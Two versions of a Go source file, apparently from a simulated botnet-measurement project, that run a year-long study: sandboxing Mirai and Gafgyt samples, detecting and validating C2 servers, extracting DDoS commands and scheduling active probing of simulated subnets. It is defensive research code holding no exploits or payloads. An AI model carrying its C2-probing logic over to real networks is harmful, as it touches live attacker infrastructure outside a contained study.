			cfg.Determinism.EventBudget = 1 << 20
		}
		w.Net.InstallFaults(plan)
	}
	st := &Study{Cfg: cfg, W: w, C2s: map[string]*C2Record{}, obs: cfg.Observability.Obs, wallStart: obs.Now()}
	// World-network events (live windows, probing) are retained only
	// when a journal will consume them; the merge goroutine drains
	// them per batch.
	w.Net.Obs().EnableEvents(st.obs.Journal != nil)
	defer st.obs.Flush()
	clock := w.Clock

	sb := sandbox.New(w.Net, sandbox.Config{
		DNS:  w.Resolve,
		Seed: cfg.Determinism.Seed,
	})

	// Schedule the probing study; its rounds interleave with the
	// daily loop as the clock advances.
	if cfg.Analysis.Probing {
		rounds := cfg.Analysis.ProbeRounds
		if rounds <= 0 {
			rounds = 84
		}
		// Jump the clock into place happens naturally: ProbeStart
		// is mid-study and scheduling is absolute.
		mkCfg := func(family string, src string) ProbeConfig {
			pc := ProbeConfig{
				Subnets:  w.ProbeSubnets,
				Interval: 4 * time.Hour,
				Rounds:   rounds,
				Family:   family,
				SourceIP: netip.MustParseAddr(src),
			}
			if cfg.Determinism.Faults {
				// Under injected faults, probes get a bounded retry
				// budget; on a clean network retries would also fire
				// on dead space, so they stay off there to keep the
				// historical schedule.
				pc.Retries = 3
				pc.Seed = cfg.Determinism.Seed
			}
			// Probe callbacks fire on the merge goroutine while it
			// drives the shared clock, so metering straight onto the
			// root recorder is race-free and feed-order stable.
			pc.Obs = st.obs.Root
			return pc
		}
		clock.Schedule(w.ProbeStart, func() {
			st.Probe = ScheduleProbing(w.Net, mkCfg(c2.FamilyMirai, "10.98.0.2"))
		})
		clock.Schedule(w.ProbeStart.Add(time.Hour), func() {
			st.ProbeGafgyt = ScheduleProbing(w.Net, mkCfg(c2.FamilyGafgyt, "10.98.0.3"))
		})
	}

	// Daily loop: each day's feed runs through the staged executor
	// (encode → publish → parallel static+isolated → serial
	// merge+live; see executor.go).
	ex := newExecutor(ctx, resolveWorkers(cfg.Determinism.Workers), cfg.Determinism.Seed, w.Resolve, clock.Now(), plan, st.obs.Wall)
	defer ex.close()
	resumedThrough := -1
	if cfg.Durability.Resume && cfg.Durability.Dir != "" {
		day, err := st.resumeFromCheckpoint()
		if err != nil {
			return st, err
		}
		resumedThrough = day
	}
	saveEvery := cfg.Durability.Every
	if saveEvery <= 0 {
		saveEvery = 1
	}
	batches := 0
	for day := world.StudyStart(); day.Before(world.StudyEnd()); day = day.AddDate(0, 0, 1) {
		if dayIndex(day) <= resumedThrough {
			continue
		}
		analysisDay := day.AddDate(0, 0, cfg.Analysis.DelayDays)
		if clock.Now().Before(analysisDay) {
			clock.RunUntil(analysisDay)
		}
		specs := w.FeedOn(day)
		if err := st.runBatch(ex, sb, specs); err != nil {
			// A cancelled run keeps its last completed-batch
			// snapshot; mid-batch state is never checkpointed.
			st.finalProgress()
			return st, err
		}
		if cfg.Durability.Dir != "" && len(specs) > 0 {
			if batches++; batches%saveEvery == 0 {
				if err := st.saveCheckpoint(dayIndex(day)); err != nil {
					return st, err
				}
			}
		}
	}
	// Drain to study end (late probe rounds, timers).
	end := world.StudyEnd().AddDate(0, 0, cfg.Analysis.DelayDays+2)
	if cfg.Analysis.Probing {
		probeEnd := w.ProbeStart.Add(15 * 24 * time.Hour)
		if probeEnd.After(end) {
			end = probeEnd
		}
	}
	clock.RunUntil(end)

	st.finalizeC2Records()
	st.finalizeObs()
	return st, nil
}

// finalizeObs seals the deterministic snapshot: study-level gauges,
// the world network's registry folded in under a "world." prefix
// (keeping shared-net traffic distinct from shard traffic), the last
// world events drained, and a final Progress tick.
func (st *Study) finalizeObs() {
	reg := st.obs.Root.Registry()
	reg.Gauge("study.samples").Set(int64(len(st.Samples)))
	reg.Gauge("study.rejected").Set(int64(st.Rejected))
	reg.Gauge("study.filtered_arch").Set(int64(st.FilteredArch))
	reg.Gauge("study.c2s").Set(int64(len(st.C2s)))
	reg.Gauge("study.exploit_findings").Set(int64(len(st.Exploits)))
	reg.Gauge("study.ddos_observations").Set(int64(len(st.DDoS)))
	reg.MergePrefixed("world.", st.W.Net.Obs().Registry())
	st.drainWorldEvents()
	st.finalProgress()
}

// finalProgress fires the last Progress tick when merges happened
// since the previous one — on completion and on the cancellation
// path, so a killed run still reports its true processed count.
func (st *Study) finalProgress() {
	if st.Cfg.Observability.Progress != nil && st.processed != st.lastProgress {
		st.emitProgress()
	}
}

// drainWorldEvents journals events accumulated on the shared world
// network's recorder (fault injections during live windows and
// probing). Always called from the merge goroutine.
func (st *Study) drainWorldEvents() {
	j := st.obs.Journal
	if j == nil {
		return
	}
	for _, ev := range st.W.Net.Obs().DrainEvents() {
		j.EmitEvent(0, ev)
	}
}

// emitProgress reports merge-goroutine throughput to Cfg.Progress.
func (st *Study) emitProgress() {
	st.lastProgress = st.processed
	disp := make(map[Disposition]int, 5)
	for _, s := range st.Samples {
		disp[s.Disposition]++
	}
	elapsed := obs.Now().Sub(st.wallStart)
	rate := 0.0
	if elapsed > 0 {
		rate = float64(st.processed) / elapsed.Seconds()
	}
	st.Cfg.Observability.Progress(ProgressUpdate{
		Processed:    st.processed,
		Accepted:     len(st.Samples),
		Dispositions: disp,
		Elapsed:      elapsed,
		Rate:         rate,
	})
}

// liveStage runs the day-0 liveness check and, when a C2 engages, the
// restricted live watch (§2.5–§2.6) — serialized in feed order on the
// shared world clock, which these windows advance.
func (st *Study) liveStage(sb *sandbox.Sandbox, rec *SampleRecord, raw []byte, isoCands []C2Candidate, sp *obs.Span) {
	reg := st.obs.Root.Registry()
	// Live check: does any C2 engage today? Restricted egress, per
	// the containment policy (§2.6).
	lc := sp.Child("stage.live_check", st.W.Clock.Now())
	liveRep, err := sb.Run(raw, sandbox.RunOptions{
		Mode:            sandbox.ModeLive,
		Duration:        10 * time.Minute,
		RestrictToC2:    true,
		DisableScanning: true,
		EventBudget:     st.Cfg.Determinism.EventBudget,
	})
	if err != nil {
		reg.Counter("sandbox.parse_failures").Inc()
		lc.SetAttr("error", "parse")
		lc.Finish(st.W.Clock.Now())
		return
	}
	reg.Counter("sandbox.runs").Inc()
	if liveRep.TimedOut {
		reg.Counter("sandbox.watchdog_aborts").Inc()
	}
	spanReport(lc, liveRep)
	lc.Finish(liveRep.Ended)
	rec.Faults = rec.Faults.Add(liveRep.Faults)
	rec.C2Retries += failedDials(liveRep)
	liveCands := DetectC2(liveRep, 1)
	// D-C2s takes the union of the isolated and live observations:
	// anti-sandbox samples reveal their C2s only on the live path.
	rec.C2s = mergeCandidates(isoCands, liveCands)
	st.recordC2s(rec)
	rec.LiveDay0 = LiveC2(liveCands)
	st.markLive(liveCands)
	// Disposition: the watchdog verdict sticks (set by the isolated
	// run or here); otherwise classify on liveness and whether the
	// bot needed extra dials to get there.
	switch {
	case rec.Disposition == DispTimedOut || liveRep.TimedOut:
		rec.Disposition = DispTimedOut
	case rec.LiveDay0 && rec.C2Retries > 0:
		rec.Disposition = DispRetriedThenAlive
	case rec.LiveDay0:
		rec.Disposition = DispAlive
	default:
		rec.Disposition = DispDead
	}
	// Commands can land during the liveness window too; extract
	// from it as well as from the long watch.
	ddos := ExtractDDoS(liveRep, rec.Family, rec.C2s, st.Cfg.Analysis.DDoS)
	if !rec.LiveDay0 {
		rec.DDoS = ddos
		st.DDoS = append(st.DDoS, ddos...)
		return
	}

	// Restricted live window: watch the C2 session for DDoS
	// commands (§2.5).
	lw := sp.Child("stage.live_watch", st.W.Clock.Now())
	watchRep, err := sb.Run(raw, sandbox.RunOptions{
		Mode:            sandbox.ModeLive,
		Duration:        st.Cfg.Windows.Live,
		RestrictToC2:    true,
		DisableScanning: true,
		EventBudget:     st.Cfg.Determinism.EventBudget,
	})
	if err != nil {
		reg.Counter("sandbox.parse_failures").Inc()
		lw.SetAttr("error", "parse")
		lw.Finish(st.W.Clock.Now())
		return
	}
	reg.Counter("sandbox.runs").Inc()
	if watchRep.TimedOut {
		reg.Counter("sandbox.watchdog_aborts").Inc()
	}
	spanReport(lw, watchRep)
	lw.Finish(watchRep.Ended)
	rec.Faults = rec.Faults.Add(watchRep.Faults)
	if watchRep.TimedOut {
		rec.Disposition = DispTimedOut
	}
	st.markLive(DetectC2(watchRep, 1))
	ddos = append(ddos, ExtractDDoS(watchRep, rec.Family, rec.C2s, st.Cfg.Analysis.DDoS)...)
	rec.DDoS = ddos
	st.DDoS = append(st.DDoS, ddos...)
}

// failedDials counts dial attempts in a report that never established
// — under restricted live mode every dial is C2-bound, so this is the
// number of re-dials the bot's own retry loop burned against injected
// faults before (or without) reaching its C2.
func failedDials(rep *sandbox.Report) int {
	n := 0
	for _, d := range rep.Dials {
		if !d.Established {
			n++
		}
	}
	return n
}

// mergeCandidates unions candidate lists by address, preferring the
// richer entry (live beats dead, signature beats none).
func mergeCandidates(a, b []C2Candidate) []C2Candidate {
	byAddr := map[string]int{}
	out := append([]C2Candidate(nil), a...)
	for i, c := range out {
		byAddr[c.Address] = i
	}
	for _, c := range b {
		if i, ok := byAddr[c.Address]; ok {
			out[i].Attempts += c.Attempts
			if c.Live {
				out[i].Live = true
			}
			if out[i].Signature == "" {
				out[i].Signature = c.Signature
			}
			continue
		}
		byAddr[c.Address] = len(out)
		out = append(out, c)
	}
	return out
}

// recordC2s folds a sample's detected C2s into D-C2s.
func (st *Study) recordC2s(rec *SampleRecord) {
	now := st.W.Clock.Now()
	for _, cand := range rec.C2s {
		r := st.C2s[cand.Address]
		if r == nil {
			r = &C2Record{
				Address:   cand.Address,
				Kind:      cand.Kind,
				IP:        cand.IP,
				Port:      cand.Port,
				FirstSeen: now,
			}
			st.C2s[cand.Address] = r
			// Two-query TI validation (§2.3a): once now, once on
			// May 7. The May-7 verdict is deterministic, so it can
			// be asked for up front.
			host := intelHost(cand)
			day0 := st.W.Intel.QueryAddress(host, now)
			r.Day0Malicious, r.Day0Vendors = day0.Malicious, len(day0.Vendors)
			may7 := st.W.Intel.QueryAddress(host, world.May7)
			r.May7Malicious, r.May7Vendors = may7.Malicious, len(may7.Vendors)
		}
		r.Samples = append(r.Samples, rec.SHA)
		r.LastSeen = now
		if cand.Live {
			r.EverLive = true
		}
		if cand.Signature != "" && r.Signature == "" {
			r.Signature = cand.Signature
		}
	}
}

// markLive upgrades records when a later window sees engagement.
func (st *Study) markLive(cands []C2Candidate) {
	for _, cand := range cands {
		if r := st.C2s[cand.Address]; r != nil && cand.Live {
			r.EverLive = true
		}
	}
}

// intelHost maps a candidate to its reputation key (VT rates hosts,
// not host:port pairs).
func intelHost(cand C2Candidate) string {
	if cand.Kind == intel.KindDNS {
		// Strip the port from "name:port".
		addr := cand.Address
		for i := len(addr) - 1; i >= 0; i-- {
			if addr[i] == ':' {
				return addr[:i]
			}
		}
		return addr
	}
	return cand.IP.String()
}

// finalizeC2Records applies the validation rule: a C2 is verified if
// either VT query flags it or its traffic matched a known protocol
// profile (the stand-in for the paper's manual verification).
func (st *Study) finalizeC2Records() {
	for _, r := range st.C2s {
		r.Verified = r.Day0Malicious || r.May7Malicious || r.Signature != ""
	}
}
