package core

import (
	"context"
	"net/netip"
	"sort"
	"time"

	"malnet/internal/c2"
	"malnet/internal/faultinject"
	"malnet/internal/intel"
	"malnet/internal/obs"
	"malnet/internal/sandbox"
	"malnet/internal/simnet"
	"malnet/internal/world"
)

// StudyConfig parameterizes the year-long measurement run.
type StudyConfig struct {
	// Seed drives per-run determinism.
	Seed int64
	// SandboxWindow is the isolated analysis window per sample.
	SandboxWindow time.Duration
	// LiveWindow is the restricted live window for samples with a
	// live C2 (the paper's 2 hours).
	LiveWindow time.Duration
	// HandshakerThreshold is the distinct-IP port threshold
	// (paper: 20).
	HandshakerThreshold int
	// MinEngines is the corroboration threshold (paper: 5).
	MinEngines int
	// DDoS tunes command extraction.
	DDoS DDoSExtractorConfig
	// Probing enables the D-PC2 study; Rounds 0 means the paper's
	// 84.
	Probing     bool
	ProbeRounds int
	// AnalysisDelayDays delays each sample's analysis past its
	// publication day (0 = same-day, the paper's headline
	// practice; ablations vary it).
	AnalysisDelayDays int
	// Workers sizes the worker pool for the parallel static +
	// isolated-sandbox stage. 0 means GOMAXPROCS; values below 0
	// are clamped to 1. Study output is byte-identical at every
	// worker count (see TestParallelStudyEquivalence).
	Workers int
	// Faults installs a deterministic fault-injection plan (packet
	// loss, resets, latency spikes, blackouts, slow drips) on the
	// world network and on every worker shard, arms probe retries,
	// and bounds activations with the sandbox watchdog. The fault
	// schedule is a pure function of FaultSeed, so a faulted study is
	// still byte-identical at any worker count (the chaos equivalence
	// suite asserts this).
	Faults bool
	// FaultSeed seeds the fault plan; 0 means Seed.
	FaultSeed int64
	// EventBudget arms the per-activation watchdog (events per
	// sandbox run before a hung emulation is aborted as TimedOut).
	// 0 with Faults on picks a generous default; 0 without Faults
	// leaves the watchdog off, the historical behavior.
	EventBudget int
	// Obs receives the study's telemetry: deterministic metrics and
	// virtual-time trace on the Root recorder (journaled when a
	// Journal is set), wall-clock profiling on Wall. Nil gets a fresh
	// Observer, so instrumentation is always on; the snapshot is part
	// of the determinism contract (byte-identical at any worker
	// count), the Wall plane is not.
	Obs *obs.Observer
	// Progress, when non-nil, is called from the merge goroutine
	// every 1000 merged feed entries (and once at study end) with
	// wall-clock throughput so long studies are not silent. The
	// callback must not mutate study state.
	Progress func(ProgressUpdate)
	// Checkpoint makes the run durable: snapshots written at
	// day-batch boundaries, resumable with byte-identical output.
	// See checkpoint.go.
	Checkpoint CheckpointConfig
}

// progressEvery is the merge-count period of Progress callbacks.
const progressEvery = 1000

// ProgressUpdate is one Progress callback's payload.
type ProgressUpdate struct {
	// Processed counts merged feed entries (including filtered and
	// rejected ones); Accepted counts D-Samples rows so far.
	Processed, Accepted int
	// Dispositions tallies accepted samples by day-0 disposition.
	Dispositions map[Disposition]int
	// Elapsed is wall-clock time since the study started; Rate is
	// Processed/Elapsed in entries per second.
	Elapsed time.Duration
	Rate    float64
}

// faultPlan derives the study's fault plan; nil when faults are off.
func (cfg *StudyConfig) faultPlan() *faultinject.Plan {
	if !cfg.Faults {
		return nil
	}
	seed := cfg.FaultSeed
	if seed == 0 {
		seed = cfg.Seed
	}
	return faultinject.New(faultinject.DefaultConfig(seed))
}

// DefaultStudyConfig returns the paper's settings.
func DefaultStudyConfig(seed int64) StudyConfig {
	return StudyConfig{
		Seed:                seed,
		SandboxWindow:       15 * time.Minute,
		LiveWindow:          2 * time.Hour,
		HandshakerThreshold: 20,
		MinEngines:          5,
		DDoS:                DefaultDDoSExtractorConfig(),
		Probing:             true,
	}
}

// Disposition classifies how a sample's day-0 C2 liveness resolved
// under the fault-aware pipeline.
type Disposition uint8

// Dispositions, in the order the pipeline can strengthen them.
const (
	// DispNone: the sample never reached the liveness stage (P2P,
	// failed isolated run, or not analyzed).
	DispNone Disposition = iota
	// DispDead: no C2 engaged during the day-0 window.
	DispDead
	// DispAlive: a C2 engaged on the first attempt.
	DispAlive
	// DispRetriedThenAlive: a C2 engaged, but only after the bot
	// re-dialed through injected faults.
	DispRetriedThenAlive
	// DispTimedOut: the activation watchdog aborted a hung window.
	DispTimedOut
)

// String names the disposition for dataset rows.
func (d Disposition) String() string {
	switch d {
	case DispDead:
		return "dead"
	case DispAlive:
		return "alive"
	case DispRetriedThenAlive:
		return "retried-then-alive"
	case DispTimedOut:
		return "timed-out"
	}
	return "none"
}

// SampleRecord is one D-Samples row.
type SampleRecord struct {
	SHA  string
	Date time.Time
	// FamilyYARA and FamilyAVClass are the two labelers' verdicts;
	// Family is the resolved label (YARA preferred).
	FamilyYARA, FamilyAVClass, Family string
	// Detections is the number of flagging engines at collection.
	Detections int
	// P2P marks samples excluded from D-C2s.
	P2P bool
	// Activated reports whether the sample passed its anti-sandbox
	// gate in the isolated run (§6f activation rate).
	Activated bool
	// C2s are the detected endpoints.
	C2s []C2Candidate
	// LiveDay0 reports whether any C2 engaged on analysis day.
	LiveDay0 bool
	// Exploits are the sample's classified handshaker catches.
	Exploits []ExploitFinding
	// DDoS are attack commands observed during the live window.
	DDoS []DDoSObservation
	// Disposition summarizes the day-0 liveness path (alive on the
	// first dial, alive only after retries, dead, or watchdog-aborted).
	Disposition Disposition
	// C2Retries counts failed C2 dial attempts the sample burned
	// before (or without) establishing a session in the day-0 window.
	C2Retries int
	// Faults totals the network faults injected across the sample's
	// sandbox windows (isolated and live); zero in clean studies.
	Faults simnet.FaultStats
}

// C2Record is one D-C2s row: a C2 address aggregated across every
// binary that referenced it.
type C2Record struct {
	Address string
	Kind    intel.AddrKind
	IP      netip.Addr
	Port    uint16
	// Samples are the SHAs of binaries using this C2, in
	// discovery order.
	Samples []string
	// FirstSeen/LastSeen bound the pipeline's observations (the
	// observed-lifespan endpoints).
	FirstSeen, LastSeen time.Time
	// EverLive reports engagement during any analysis window.
	EverLive bool
	// Signature is the protocol artifact that identified it, if
	// any.
	Signature string
	// Day0Malicious / Day0Vendors: the VT query on discovery day.
	Day0Malicious bool
	Day0Vendors   int
	// May7Malicious / May7Vendors: the May 7, 2022 re-query.
	May7Malicious bool
	May7Vendors   int
	// Verified reports the §2.3a validation: flagged by VT
	// (either query) or matched a known C2 protocol.
	Verified bool
}

// LifespanDays is the observed lifespan in days, floored at one.
func (r *C2Record) LifespanDays() float64 {
	d := r.LastSeen.Sub(r.FirstSeen).Hours() / 24
	if d < 1 {
		return 1
	}
	return d
}

// Study is the full measurement output: the five datasets.
type Study struct {
	Cfg StudyConfig
	W   *world.World

	// Samples is D-Samples (accepted binaries only).
	Samples []*SampleRecord
	// Rejected counts feed binaries failing the >=5-engine bar.
	Rejected int
	// FilteredArch counts feed downloads skipped for not being
	// MIPS 32B executables (§2.2's collection filter).
	FilteredArch int
	// C2s is D-C2s keyed by address.
	C2s map[string]*C2Record
	// Exploits is D-Exploits (one entry per sample-vulnerability
	// finding).
	Exploits []ExploitFinding
	// DDoS is D-DDOS.
	DDoS []DDoSObservation
	// Probe is D-PC2 (nil when probing is disabled).
	Probe *ProbeStudy
	// ProbeGafgyt is the second weaponized sweep; Probe holds the
	// Mirai one. MergedLiveC2s unions them.
	ProbeGafgyt *ProbeStudy

	// obs is the study's observer (never nil after RunStudyContext).
	obs *obs.Observer
	// processed counts merged feed entries for Progress pacing;
	// lastProgress is the processed count at the last Progress tick,
	// so the final tick fires exactly when something went unreported.
	processed    int
	lastProgress int
	// wallStart anchors Progress throughput arithmetic.
	wallStart time.Time
}

// Obs returns the study's observer (nil only for hand-built Study
// values that never went through RunStudy).
func (st *Study) Obs() *obs.Observer { return st.obs }

// Metrics returns the deterministic metrics registry, nil-safe to
// read from for hand-built studies.
func (st *Study) Metrics() *obs.Registry {
	if st.obs == nil {
		return nil
	}
	return st.obs.Root.Registry()
}

// MergedLiveC2s unions the two weaponized sweeps' live C2 sets.
func (st *Study) MergedLiveC2s() []*ProbeTarget {
	seen := map[string]*ProbeTarget{}
	for _, study := range []*ProbeStudy{st.Probe, st.ProbeGafgyt} {
		if study == nil {
			continue
		}
		for _, t := range study.LiveC2s {
			if _, ok := seen[t.Addr.String()]; !ok {
				seen[t.Addr.String()] = t
			}
		}
	}
	out := make([]*ProbeTarget, 0, len(seen))
	for _, t := range seen {
		out = append(out, t)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Addr.String() < out[j].Addr.String() })
	return out
}

// RunStudy executes the full pipeline against a generated world:
// daily collection, same-day sandbox analysis, threat-intel
// cross-validation, exploit capture, DDoS eavesdropping, and (when
// enabled) the two-week active-probing study.
func RunStudy(w *world.World, cfg StudyConfig) *Study {
	st, _ := RunStudyContext(context.Background(), w, cfg)
	return st
}

// RunStudyContext is RunStudy with cancellation: when ctx is
// cancelled the executor stops dispatching, waits for in-flight
// sandbox runs, shuts the worker pool down, and returns the partial
// study together with ctx's error. A nil error means the study ran
// to completion.
func RunStudyContext(ctx context.Context, w *world.World, cfg StudyConfig) (*Study, error) {
	if cfg.SandboxWindow <= 0 {
		cfg.SandboxWindow = 15 * time.Minute
	}
	if cfg.LiveWindow <= 0 {
		cfg.LiveWindow = 2 * time.Hour
	}
	if cfg.MinEngines <= 0 {
		cfg.MinEngines = 5
	}
	if cfg.Obs == nil {
		cfg.Obs = obs.NewObserver()
	}
	plan := cfg.faultPlan()
	if plan != nil {
		if cfg.EventBudget <= 0 {
			// Generous per-activation ceiling: orders of magnitude
			// above a healthy run, small enough that a retry storm
			// cannot wedge a worker.
			cfg.EventBudget = 1 << 20
		}
		w.Net.InstallFaults(plan)
	}
	st := &Study{Cfg: cfg, W: w, C2s: map[string]*C2Record{}, obs: cfg.Obs, wallStart: obs.Now()}
	// World-network events (live windows, probing) are retained only
	// when a journal will consume them; the merge goroutine drains
	// them per batch.
	w.Net.Obs().EnableEvents(cfg.Obs.Journal != nil)
	defer cfg.Obs.Flush()
	clock := w.Clock

	sb := sandbox.New(w.Net, sandbox.Config{
		DNS:  w.Resolve,
		Seed: cfg.Seed,
	})

	// Schedule the probing study; its rounds interleave with the
	// daily loop as the clock advances.
	if cfg.Probing {
		rounds := cfg.ProbeRounds
		if rounds <= 0 {
			rounds = 84
		}
		// Jump the clock into place happens naturally: ProbeStart
		// is mid-study and scheduling is absolute.
		mkCfg := func(family string, src string) ProbeConfig {
			pc := ProbeConfig{
				Subnets:  w.ProbeSubnets,
				Interval: 4 * time.Hour,
				Rounds:   rounds,
				Family:   family,
				SourceIP: netip.MustParseAddr(src),
			}
			if cfg.Faults {
				// Under injected faults, probes get a bounded retry
				// budget; on a clean network retries would also fire
				// on dead space, so they stay off there to keep the
				// historical schedule.
				pc.Retries = 3
				pc.Seed = cfg.Seed
			}
			// Probe callbacks fire on the merge goroutine while it
			// drives the shared clock, so metering straight onto the
			// root recorder is race-free and feed-order stable.
			pc.Obs = cfg.Obs.Root
			return pc
		}
		clock.Schedule(w.ProbeStart, func() {
			st.Probe = ScheduleProbing(w.Net, mkCfg(c2.FamilyMirai, "10.98.0.2"))
		})
		clock.Schedule(w.ProbeStart.Add(time.Hour), func() {
			st.ProbeGafgyt = ScheduleProbing(w.Net, mkCfg(c2.FamilyGafgyt, "10.98.0.3"))
		})
	}

	// Daily loop: each day's feed runs through the staged executor
	// (encode → publish → parallel static+isolated → serial
	// merge+live; see executor.go).
	ex := newExecutor(ctx, resolveWorkers(cfg.Workers), cfg.Seed, w.Resolve, clock.Now(), plan, cfg.Obs.Wall)
	defer ex.close()
	resumedThrough := -1
	if cfg.Checkpoint.Resume && cfg.Checkpoint.Dir != "" {
		day, err := st.resumeFromCheckpoint()
		if err != nil {
			return st, err
		}
		resumedThrough = day
	}
	saveEvery := cfg.Checkpoint.Every
	if saveEvery <= 0 {
		saveEvery = 1
	}
	batches := 0
	for day := world.StudyStart(); day.Before(world.StudyEnd()); day = day.AddDate(0, 0, 1) {
		if dayIndex(day) <= resumedThrough {
			continue
		}
		analysisDay := day.AddDate(0, 0, cfg.AnalysisDelayDays)
		if clock.Now().Before(analysisDay) {
			clock.RunUntil(analysisDay)
		}
		specs := w.FeedOn(day)
		if err := st.runBatch(ex, sb, specs); err != nil {
			// A cancelled run keeps its last completed-batch
			// snapshot; mid-batch state is never checkpointed.
			st.finalProgress()
			return st, err
		}
		if cfg.Checkpoint.Dir != "" && len(specs) > 0 {
			if batches++; batches%saveEvery == 0 {
				if err := st.saveCheckpoint(dayIndex(day)); err != nil {
					return st, err
				}
			}
		}
	}
	// Drain to study end (late probe rounds, timers).
	end := world.StudyEnd().AddDate(0, 0, cfg.AnalysisDelayDays+2)
	if cfg.Probing {
		probeEnd := w.ProbeStart.Add(15 * 24 * time.Hour)
		if probeEnd.After(end) {
			end = probeEnd
		}
	}
	clock.RunUntil(end)

	st.finalizeC2Records()
	st.finalizeObs()
	return st, nil
}

// finalizeObs seals the deterministic snapshot: study-level gauges,
// the world network's registry folded in under a "world." prefix
// (keeping shared-net traffic distinct from shard traffic), the last
// world events drained, and a final Progress tick.
func (st *Study) finalizeObs() {
	reg := st.obs.Root.Registry()
	reg.Gauge("study.samples").Set(int64(len(st.Samples)))
	reg.Gauge("study.rejected").Set(int64(st.Rejected))
	reg.Gauge("study.filtered_arch").Set(int64(st.FilteredArch))
	reg.Gauge("study.c2s").Set(int64(len(st.C2s)))
	reg.Gauge("study.exploit_findings").Set(int64(len(st.Exploits)))
	reg.Gauge("study.ddos_observations").Set(int64(len(st.DDoS)))
	reg.MergePrefixed("world.", st.W.Net.Obs().Registry())
	st.drainWorldEvents()
	st.finalProgress()
}

// finalProgress fires the last Progress tick when merges happened
// since the previous one — on completion and on the cancellation
// path, so a killed run still reports its true processed count.
func (st *Study) finalProgress() {
	if st.Cfg.Progress != nil && st.processed != st.lastProgress {
		st.emitProgress()
	}
}

// drainWorldEvents journals events accumulated on the shared world
// network's recorder (fault injections during live windows and
// probing). Always called from the merge goroutine.
func (st *Study) drainWorldEvents() {
	j := st.obs.Journal
	if j == nil {
		return
	}
	for _, ev := range st.W.Net.Obs().DrainEvents() {
		j.EmitEvent(0, ev)
	}
}

// emitProgress reports merge-goroutine throughput to Cfg.Progress.
func (st *Study) emitProgress() {
	st.lastProgress = st.processed
	disp := make(map[Disposition]int, 5)
	for _, s := range st.Samples {
		disp[s.Disposition]++
	}
	elapsed := obs.Now().Sub(st.wallStart)
	rate := 0.0
	if elapsed > 0 {
		rate = float64(st.processed) / elapsed.Seconds()
	}
	st.Cfg.Progress(ProgressUpdate{
		Processed:    st.processed,
		Accepted:     len(st.Samples),
		Dispositions: disp,
		Elapsed:      elapsed,
		Rate:         rate,
	})
}

// liveStage runs the day-0 liveness check and, when a C2 engages, the
// restricted live watch (§2.5–§2.6) — serialized in feed order on the
// shared world clock, which these windows advance.
func (st *Study) liveStage(sb *sandbox.Sandbox, rec *SampleRecord, raw []byte, isoCands []C2Candidate, sp *obs.Span) {
	reg := st.obs.Root.Registry()
	// Live check: does any C2 engage today? Restricted egress, per
	// the containment policy (§2.6).
	lc := sp.Child("stage.live_check", st.W.Clock.Now())
	liveRep, err := sb.Run(raw, sandbox.RunOptions{
		Mode:            sandbox.ModeLive,
		Duration:        10 * time.Minute,
		RestrictToC2:    true,
		DisableScanning: true,
		EventBudget:     st.Cfg.EventBudget,
	})
	if err != nil {
		reg.Counter("sandbox.parse_failures").Inc()
		lc.SetAttr("error", "parse")
		lc.Finish(st.W.Clock.Now())
		return
	}
	reg.Counter("sandbox.runs").Inc()
	if liveRep.TimedOut {
		reg.Counter("sandbox.watchdog_aborts").Inc()
	}
	spanReport(lc, liveRep)
	lc.Finish(liveRep.Ended)
	rec.Faults = rec.Faults.Add(liveRep.Faults)
	rec.C2Retries += failedDials(liveRep)
	liveCands := DetectC2(liveRep, 1)
	// D-C2s takes the union of the isolated and live observations:
	// anti-sandbox samples reveal their C2s only on the live path.
	rec.C2s = mergeCandidates(isoCands, liveCands)
	st.recordC2s(rec)
	rec.LiveDay0 = LiveC2(liveCands)
	st.markLive(liveCands)
	// Disposition: the watchdog verdict sticks (set by the isolated
	// run or here); otherwise classify on liveness and whether the
	// bot needed extra dials to get there.
	switch {
	case rec.Disposition == DispTimedOut || liveRep.TimedOut:
		rec.Disposition = DispTimedOut
	case rec.LiveDay0 && rec.C2Retries > 0:
		rec.Disposition = DispRetriedThenAlive
	case rec.LiveDay0:
		rec.Disposition = DispAlive
	default:
		rec.Disposition = DispDead
	}
	// Commands can land during the liveness window too; extract
	// from it as well as from the long watch.
	ddos := ExtractDDoS(liveRep, rec.Family, rec.C2s, st.Cfg.DDoS)
	if !rec.LiveDay0 {
		rec.DDoS = ddos
		st.DDoS = append(st.DDoS, ddos...)
		return
	}

	// Restricted live window: watch the C2 session for DDoS
	// commands (§2.5).
	lw := sp.Child("stage.live_watch", st.W.Clock.Now())
	watchRep, err := sb.Run(raw, sandbox.RunOptions{
		Mode:            sandbox.ModeLive,
		Duration:        st.Cfg.LiveWindow,
		RestrictToC2:    true,
		DisableScanning: true,
		EventBudget:     st.Cfg.EventBudget,
	})
	if err != nil {
		reg.Counter("sandbox.parse_failures").Inc()
		lw.SetAttr("error", "parse")
		lw.Finish(st.W.Clock.Now())
		return
	}
	reg.Counter("sandbox.runs").Inc()
	if watchRep.TimedOut {
		reg.Counter("sandbox.watchdog_aborts").Inc()
	}
	spanReport(lw, watchRep)
	lw.Finish(watchRep.Ended)
	rec.Faults = rec.Faults.Add(watchRep.Faults)
	if watchRep.TimedOut {
		rec.Disposition = DispTimedOut
	}
	st.markLive(DetectC2(watchRep, 1))
	ddos = append(ddos, ExtractDDoS(watchRep, rec.Family, rec.C2s, st.Cfg.DDoS)...)
	rec.DDoS = ddos
	st.DDoS = append(st.DDoS, ddos...)
}

// failedDials counts dial attempts in a report that never established
// — under restricted live mode every dial is C2-bound, so this is the
// number of re-dials the bot's own retry loop burned against injected
// faults before (or without) reaching its C2.
func failedDials(rep *sandbox.Report) int {
	n := 0
	for _, d := range rep.Dials {
		if !d.Established {
			n++
		}
	}
	return n
}

// mergeCandidates unions candidate lists by address, preferring the
// richer entry (live beats dead, signature beats none).
func mergeCandidates(a, b []C2Candidate) []C2Candidate {
	byAddr := map[string]int{}
	out := append([]C2Candidate(nil), a...)
	for i, c := range out {
		byAddr[c.Address] = i
	}
	for _, c := range b {
		if i, ok := byAddr[c.Address]; ok {
			out[i].Attempts += c.Attempts
			if c.Live {
				out[i].Live = true
			}
			if out[i].Signature == "" {
				out[i].Signature = c.Signature
			}
			continue
		}
		byAddr[c.Address] = len(out)
		out = append(out, c)
	}
	return out
}

// recordC2s folds a sample's detected C2s into D-C2s.
func (st *Study) recordC2s(rec *SampleRecord) {
	now := st.W.Clock.Now()
	for _, cand := range rec.C2s {
		r := st.C2s[cand.Address]
		if r == nil {
			r = &C2Record{
				Address:   cand.Address,
				Kind:      cand.Kind,
				IP:        cand.IP,
				Port:      cand.Port,
